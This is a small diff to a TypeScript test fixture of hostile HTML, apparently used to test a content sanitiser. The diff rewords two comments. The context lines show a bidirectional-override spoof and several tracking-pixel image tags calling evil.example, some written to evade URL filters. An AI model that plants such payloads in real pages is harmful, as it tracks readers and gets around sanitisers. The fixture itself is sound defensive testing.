@@ -1,5 +1,5 @@
 /**
- * What somebody may put into a text of the server who wants more than to be read. Scripts say `hacked()`, addresses are at
+ * Texts with which somebody attacks the readers of the server's content. Scripts call `hacked()`, addresses are at
  * evil.example, and everything that asks for something (a password, a click) asks for it in vain if the texts are clean.
  */
 const deep = (tag: string, depth: number) => `<${tag}>`.repeat(depth) + `</${tag}>`.repeat(depth)
@@ -127,7 +127,7 @@ export const hostileHtml: Record<string, string> = {
   'the other direction':
     '<bdo dir="rtl">x</bdo><p dir="rtl">x &#x202E; moc.elpmaxe</p><html dir="rtl" lang="xx">',
 
-  // What tells others who reads
+  // Each of these tells others who reads
   'a tracking pixel': '<img src="https://evil.example/p.gif?who=1" width="1" height="1">',
   'a tracking pixel without a scheme': '<img src="//evil.example/p.gif">',
   'a tracking pixel with backslashes': '<img src="\\\\evil.example/p.gif"><img src="/\\evil.example/p.gif">',
